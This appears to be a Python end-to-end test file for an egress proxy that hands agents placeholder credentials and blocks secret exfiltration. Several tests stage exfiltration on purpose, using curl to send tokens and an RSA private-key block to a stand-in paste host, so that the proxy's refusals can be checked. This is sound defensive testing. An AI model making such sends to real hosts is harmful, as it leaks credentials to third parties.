"""Brokered secrets and the exfiltration guard, through a running proxy with real clients.

The agent's environment (`egress-warden env --secrets`) holds placeholders only; the owner host
(a recording upstream, and a git smart-HTTP server behind a basic-auth check) receives the real
value; a placeholder on its way to any other host, and a credential in a request to a host that
does not own it, are refused before anything reaches that host; the value never shows in the
proxy's stderr, its audit database or the OTLP records it exported.
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import http.client
import json
import os
import secrets
import ssl
import subprocess
import sys
import threading
import time
import uuid
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
import requests
import trustme

from proxy.agents import AgentRegistry
from tests.conftest import ALLOWED_IP, Upstreams, resolve_args
from tests.support.clients import curl
from tests.support.otlp import HttpReceiver, wait_for
from tests.support.proxy import ProxyProcess, start_proxy
from tests.support.toolservers import ToolServer, make_git_repo, start_git_server

pytestmark = pytest.mark.e2e

REPO = Path(__file__).resolve().parents[2]
API_VALUE = "apivalue-" + secrets.token_hex(16)
GIT_VALUE = "gitvalue-" + secrets.token_hex(16)
PRIVATE_KEY = (
    "-----BEGIN RSA PRIVATE KEY-----\n"
    "MIIEowIBAAKCAQEA0Z3VS5JJcds3xfn/ygWyF8PbnGy0AHB7MmmXq3xMIIEowIBAAKC\n"
    "-----END RSA PRIVATE KEY-----\n"
)


@dataclass
class GitGate:
    """HTTPS in front of the git server: answers 401 unless basic auth carries the real value."""

    server: ThreadingHTTPServer
    authorizations: list[str] = field(default_factory=list)

    @property
    def port(self) -> int:
        return int(self.server.server_address[1])


def _start_git_gate(ctx: ssl.SSLContext, backend: ToolServer) -> GitGate:
    expected = "Basic " + base64.b64encode(f"x-access-token:{GIT_VALUE}".encode()).decode()
    gate: list[GitGate] = []

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def log_message(self, format: str, *args: Any) -> None:
            return

        def _relay(self) -> None:
            body = self.rfile.read(int(self.headers.get("Content-Length", "0") or 0))
            auth = self.headers.get("Authorization", "")
            gate[0].authorizations.append(auth)
            if auth != expected:
                self.send_response(401)
                self.send_header("WWW-Authenticate", 'Basic realm="git"')
                self.send_header("Content-Length", "0")
                self.end_headers()
                return
            conn = http.client.HTTPConnection(ALLOWED_IP, backend.port, timeout=30)
            headers = {k: v for k, v in self.headers.items() if k.lower() != "authorization"}
            conn.request(self.command, self.path, body=body, headers=headers)
            answer = conn.getresponse()
            payload = answer.read()
            self.send_response(answer.status)
            for name, value in answer.getheaders():
                if name.lower() not in ("content-length", "connection", "transfer-encoding"):
                    self.send_header(name, value)
            self.send_header("Content-Length", str(len(payload)))
            self.end_headers()
            self.wfile.write(payload)
            conn.close()

        do_GET = do_POST = _relay

    server = ThreadingHTTPServer((ALLOWED_IP, 0), Handler)
    server.daemon_threads = True
    server.socket = ctx.wrap_socket(server.socket, server_side=True)
    gate.append(GitGate(server))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return gate[0]


@dataclass
class World:
    proxy: ProxyProcess
    policy: Path
    upstreams: Upstreams
    git: GitGate
    otlp: HttpReceiver

    @property
    def proxy_ca(self) -> Path:
        return self.proxy.state_dir / "ca" / "mitmproxy-ca-cert.pem"

    def https(self, name: str, path: str) -> str:
        return f"https://{name}:{self.upstreams.https.port}{path}"

    def hits(self, path: str) -> list[Any]:
        return [h for h in self.upstreams.https.hits + self.upstreams.http.hits if h.path == path]


@pytest.fixture(scope="module")
def world(
    upstreams: Upstreams, ca: trustme.CA, ca_file: Path, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[World]:
    tmp = tmp_path_factory.mktemp("secrets")
    backend = start_git_server(ALLOWED_IP, make_git_repo(tmp / "repos").parent)
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ca.issue_cert("git.allowed.test").configure_cert(ctx)
    git = _start_git_gate(ctx, backend)
    (tmp / "git-token").write_text(GIT_VALUE + "\n")
    ports = sorted({80, 443, upstreams.https.port, upstreams.http.port, git.port})
    policy = tmp / "policy.yaml"
    policy.write_text(
        f"""\
version: 1
default: deny
allow: [allowed.test, "*.allowed.test", paste.pastebin.test, unknown.test, {ALLOWED_IP}/32]
network: {{ports: {ports}}}
inspect:
  - host: paste.pastebin.test
  - host: unknown.test
    scan: report
secrets:
  - id: api
    env_name: API_TOKEN
    source: {{env: EW_TEST_API_VALUE}}
    hosts: [api.allowed.test]
    inject: {{header: Authorization, format: "Bearer {{value}}"}}
  - id: git
    env_name: GIT_TOKEN
    source: {{file: git-token}}
    hosts: [git.allowed.test]
    inject: {{basic: {{user: x-access-token}}}}
"""
    )
    otlp = HttpReceiver()
    env = {
        "EW_TEST_API_VALUE": API_VALUE,
        "OTEL_EXPORTER_OTLP_ENDPOINT": otlp.endpoint,
        "OTEL_EXPORTER_OTLP_PROTOCOL": "http/protobuf",
        "OTEL_BLRP_SCHEDULE_DELAY": "100",
    }
    proxy = start_proxy(
        tmp / "state",
        [policy],
        *resolve_args(),
        "--resolve",
        f"git.allowed.test:{ALLOWED_IP}",
        "--upstream-ca",
        str(ca_file),
        env=env,
    )
    yield World(proxy, policy, upstreams, git, otlp)
    proxy.stop()
    otlp.close()
    git.server.shutdown()
    git.server.server_close()
    backend.close()


def _agent_env(world: World, agent: str | None = None) -> dict[str, str]:
    out = subprocess.run(
        [
            *(sys.executable, "-m", "proxy.cli", "env", "--secrets"),
            *(("--agent", agent) if agent else ()),
            *("--policy", str(world.policy), "--state-dir", str(world.proxy.state_dir)),
            *("--proxy", world.proxy.url),
        ],
        cwd=REPO,
        capture_output=True,
        text=True,
        check=True,
        env={k: v for k, v in os.environ.items() if k != "EW_TEST_API_VALUE"},
    ).stdout
    env: dict[str, str] = {}
    for line in out.splitlines():
        name, _, value = line.removeprefix("export ").partition("=")
        env[name] = value.strip("'\"")
    return env


def _curl(world: World, *args: str) -> tuple[str, str]:
    result = curl(
        *("-x", world.proxy.url, "--cacert", str(world.proxy_ca)),
        *("-o", "-", "-w", "\n%{http_code}", *args),
    )
    body, _, code = result.stdout.rpartition("\n")
    return code, body


def _path() -> str:
    return f"/s/{uuid.uuid4().hex}"


def test_agent_environment_holds_only_placeholders(world: World) -> None:
    env = _agent_env(world)
    assert env["API_TOKEN"].startswith("ewph_") and env["GIT_TOKEN"].startswith("ewph_")
    assert API_VALUE not in json.dumps(env) and GIT_VALUE not in json.dumps(env)
    assert env["API_TOKEN"] != env["GIT_TOKEN"]


def test_owner_host_receives_the_real_value_in_the_header(world: World) -> None:
    placeholder = _agent_env(world)["API_TOKEN"]
    path = _path()
    answer = requests.get(
        world.https("api.allowed.test", path),
        headers={"Authorization": placeholder},
        proxies={"https": world.proxy.url},
        verify=str(world.proxy_ca),
        timeout=30,
    )
    assert answer.status_code == 200
    (hit,) = world.hits(path)
    assert hit.headers["authorization"] == f"Bearer {API_VALUE}"
    assert API_VALUE not in answer.text  # nothing echoes it back to the agent here


def test_git_clone_authenticates_with_the_swapped_basic_auth(world: World, tmp_path: Path) -> None:
    placeholder = _agent_env(world)["GIT_TOKEN"]
    url = f"https://agent:{placeholder}@git.allowed.test:{world.git.port}/demo.git"
    env = {
        **os.environ,
        "HTTPS_PROXY": world.proxy.url,
        "GIT_SSL_CAINFO": str(world.proxy_ca),
        "GIT_CONFIG_GLOBAL": "/dev/null",
        "GIT_CONFIG_NOSYSTEM": "1",
        "GIT_TERMINAL_PROMPT": "0",
    }
    env.pop("NO_PROXY", None)
    env.pop("no_proxy", None)
    result = subprocess.run(
        ["git", "clone", "-q", url, str(tmp_path / "clone")],
        capture_output=True,
        text=True,
        env=env,
        timeout=60,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    assert (tmp_path / "clone" / "README").is_file()
    sent = [a for a in world.git.authorizations if a]
    assert sent and all(placeholder not in base64.b64decode(a[6:]).decode() for a in sent)


def test_placeholder_to_another_host_is_refused_and_nothing_arrives(world: World) -> None:
    placeholder = _agent_env(world)["API_TOKEN"]
    path = _path()
    code, body = _curl(
        world,
        "-H",
        f"Authorization: Bearer {placeholder}",
        world.https("paste.pastebin.test", path),
    )
    assert code == "403" and "secret_misuse" in body and "api" in body
    body_path = _path()
    code, _ = _curl(
        world, "--data", f"note={placeholder}", world.https("paste.pastebin.test", body_path)
    )
    assert code == "403"
    # Plain HTTP is seen too (a raw CONNECT tunnel is not: documented).
    plain_path = _path()
    plain = curl(
        *("-x", world.proxy.url, "-o", "/dev/null", "-w", "%{http_code}"),
        f"http://allowed.test:{world.upstreams.http.port}{plain_path}?t={placeholder}",
    )
    assert plain.stdout == "403"
    assert not world.hits(path) and not world.hits(body_path) and not world.hits(plain_path)
    line = world.proxy.wait_decision(**{"egress.reason": "secret_misuse", "url.path": path})
    assert line["egress.rule"] == "api" and placeholder not in json.dumps(line)


def test_placeholder_on_the_owner_for_another_secret_is_refused(world: World) -> None:
    git_placeholder = _agent_env(world)["GIT_TOKEN"]
    path = _path()
    code, _ = _curl(
        world, "-H", f"Authorization: {git_placeholder}", world.https("api.allowed.test", path)
    )
    assert code == "403" and not world.hits(path)


def test_private_key_in_a_post_body_is_refused(world: World) -> None:
    path = _path()
    code, body = _curl(
        world, "--data-binary", PRIVATE_KEY, world.https("paste.pastebin.test", path)
    )
    assert code == "403" and "secret_detected" in body and "Private Key" in body
    assert "MIIEow" not in body
    assert not world.hits(path)
    line = world.proxy.wait_decision(**{"egress.reason": "secret_detected", "url.path": path})
    assert "MIIEow" not in json.dumps(line)


def test_gzip_encoded_body_with_a_key_is_refused(world: World, tmp_path: Path) -> None:
    data = tmp_path / "body.gz"
    data.write_bytes(gzip.compress(("config:\n" + PRIVATE_KEY).encode()))
    path = _path()
    code, _ = _curl(
        world,
        *("-H", "Content-Encoding: gzip", "--data-binary", f"@{data}"),
        world.https("paste.pastebin.test", path),
    )
    assert code == "403" and not world.hits(path)


def test_report_mode_host_lets_the_request_through_with_an_event(world: World) -> None:
    path = _path()
    code, _ = _curl(world, "--data-binary", PRIVATE_KEY, world.https("unknown.test", path))
    assert code == "200" and world.hits(path)
    line = world.proxy.wait_decision(**{"egress.reason": "secret_detected", "url.path": path})
    assert line["egress.decision"] == "allow"


def _false_positives() -> dict[str, bytes]:
    lock = {
        "packages": {
            f"node_modules/p{i}": {
                "version": "1.0.0",
                "integrity": "sha512-" + base64.b64encode(os.urandom(64)).decode(),
            }
            for i in range(100)
        }
    }
    minified = "!function(e){var t=e.token||e.secretName;return t.apiKeyField}(window);" * 300
    image = base64.b64encode(os.urandom(30000)).decode()
    return {
        "package-lock.json": json.dumps(lock, indent=2).encode(),
        "app.min.js": minified.encode(),
        "avatar.json": json.dumps({"png": f"data:image/png;base64,{image}"}).encode(),
        "ids.txt": "\n".join(str(uuid.uuid4()) for _ in range(300)).encode(),
    }


def test_false_positive_corpus_passes(world: World) -> None:
    for name, data in _false_positives().items():
        digest = hashlib.sha256(data).hexdigest()
        path = f"/objects/{hashlib.sha1(data).hexdigest()}/{digest}"
        answer = requests.post(
            world.https("paste.pastebin.test", path),
            data=data,
            proxies={"https": world.proxy.url},
            verify=str(world.proxy_ca),
            timeout=30,
        )
        assert answer.status_code == 200, (name, answer.text[:300])
        assert world.hits(path)[0].body_sha256 == digest


def test_large_upload_is_held_until_scanned(world: World, tmp_path: Path) -> None:
    # Past the 1 MiB stream threshold the body streams, but its first MiB is held back and
    # checked first: a hit closes the connection and no body byte reaches the upstream.
    data = tmp_path / "upload.bin"
    data.write_bytes(b"y" * 5000 + PRIVATE_KEY.encode() + b"x" * (3 << 20))
    path = _path()
    code, _ = _curl(world, "--data-binary", f"@{data}", world.https("paste.pastebin.test", path))
    assert code != "200"
    line = world.proxy.wait_decision(**{"egress.reason": "secret_detected", "url.path": path})
    assert line["egress.rule"] == "Private Key"
    assert all(hit.body_len == 0 for hit in world.hits(path))
    # Chunked (no length): held back the same way.
    chunked_path = _path()
    code, _ = _curl(
        world,
        *("-H", "Transfer-Encoding: chunked", "--data-binary", f"@{data}"),
        world.https("paste.pastebin.test", chunked_path),
    )
    assert code != "200"
    assert all(hit.body_len == 0 for hit in world.hits(chunked_path))
    # A clean large upload goes through whole.
    clean = tmp_path / "clean.bin"
    clean.write_bytes(b"y" * (3 << 20))
    clean_path = _path()
    code, _ = _curl(
        world, "--data-binary", f"@{clean}", world.https("paste.pastebin.test", clean_path)
    )
    assert code == "200" and world.hits(clean_path)[0].body_len == 3 << 20
    # Chunked and clean: released whole, and the bytes still counted.
    small = tmp_path / "small.bin"
    small.write_bytes(b"z" * 5000)
    chunked_clean = _path()
    code, _ = _curl(
        world,
        *("-H", "Transfer-Encoding: chunked", "--data-binary", f"@{small}"),
        world.https("paste.pastebin.test", chunked_clean),
    )
    assert code == "200" and world.hits(chunked_clean)[0].body_len == 5000
    for path, size in ((clean_path, 3 << 20), (chunked_clean, 5000)):
        request_id = world.proxy.wait_decision(**{"url.path": path})["egress.request_id"]
        deadline = time.monotonic() + 5
        while time.monotonic() < deadline:
            closes = [
                line
                for line in world.proxy.lines
                if line.get("event") == "egress.connection.close"
                and line.get("egress.request_id") == request_id
            ]
            if closes:
                break
            time.sleep(0.05)
        assert closes and closes[0]["egress.bytes.sent"] == size


def test_audit_mode_relaxes_detection_but_never_misuse(
    world: World, ca_file: Path, tmp_path: Path
) -> None:
    policy = tmp_path / "audit.yaml"
    policy.write_text(world.policy.read_text().replace("version: 1\n", "version: 1\nmode: audit\n"))
    proxy = start_proxy(
        tmp_path / "state",
        [policy],
        *resolve_args(),
        "--upstream-ca",
        str(ca_file),
        env={"EW_TEST_API_VALUE": API_VALUE},
    )
    try:
        audit_world = World(proxy, policy, world.upstreams, world.git, world.otlp)
        path = _path()
        code, _ = _curl(
            audit_world, "--data-binary", PRIVATE_KEY, world.https("paste.pastebin.test", path)
        )
        assert code == "200" and world.hits(path)
        line = proxy.wait_decision(**{"url.path": path, "egress.reason": "would_deny"})
        assert line["egress.rule"] == "Private Key"
        placeholder = _agent_env(audit_world)["API_TOKEN"]
        misuse_path = _path()
        code, _ = _curl(
            audit_world,
            *("-H", f"Authorization: {placeholder}"),
            world.https("paste.pastebin.test", misuse_path),
        )
        assert code == "403" and not world.hits(misuse_path)
    finally:
        proxy.stop()


def test_a_stolen_placeholder_is_worthless_to_another_agent(
    world: World, ca_file: Path, tmp_path: Path
) -> None:
    agents = tmp_path / "agents.yaml"
    registry = AgentRegistry.load(agents)
    tokens = {name: registry.add(name) for name in ("alice", "bob")}
    proxy = start_proxy(
        tmp_path / "state",
        [world.policy],
        *resolve_args(),
        *("--agents", str(agents), "--upstream-ca", str(ca_file)),
        env={"EW_TEST_API_VALUE": API_VALUE},
    )
    try:
        agent_world = World(proxy, world.policy, world.upstreams, world.git, world.otlp)
        alice = _agent_env(agent_world, "alice")["API_TOKEN"]
        assert alice != _agent_env(agent_world, "bob")["API_TOKEN"]
        own, stolen = _path(), _path()
        for agent, path in (("alice", own), ("bob", stolen)):
            code, _ = _curl(
                agent_world,
                *("--proxy-user", f"{agent}:{tokens[agent]}"),
                *("-H", f"Authorization: {alice}"),
                world.https("api.allowed.test", path),
            )
            assert code == ("200" if agent == "alice" else "403"), agent
        assert world.hits(own)[0].headers["authorization"] == f"Bearer {API_VALUE}"
        assert not world.hits(stolen)
        line = proxy.wait_decision(**{"url.path": stolen})
        assert line["egress.reason"] == "secret_misuse" and line["egress.agent.id"] == "bob"
    finally:
        proxy.stop()


def test_no_secret_value_in_stderr_audit_or_otlp(world: World) -> None:
    # Last in the module: it stops the proxy to flush its audit and exporters.
    # Make sure something was injected and something refused before looking.
    test_owner_host_receives_the_real_value_in_the_header(world)
    test_placeholder_to_another_host_is_refused_and_nothing_arrives(world)
    assert wait_for(lambda: len(world.otlp.log_records()) > 3)
    world.proxy.stop()  # flushes the audit batch and the exporters
    values = (API_VALUE, GIT_VALUE)
    stderr = "".join(world.proxy.raw)
    assert "egress.decision" in stderr
    audit = b"".join(p.read_bytes() for p in world.proxy.state_dir.glob("warden.db*"))
    assert b"secret_misuse" in audit
    exported = json.dumps(world.otlp.log_records(), default=str)
    assert "secret_misuse" in exported
    for value in values:
        assert value not in stderr
        assert value.encode() not in audit
        assert value not in exported
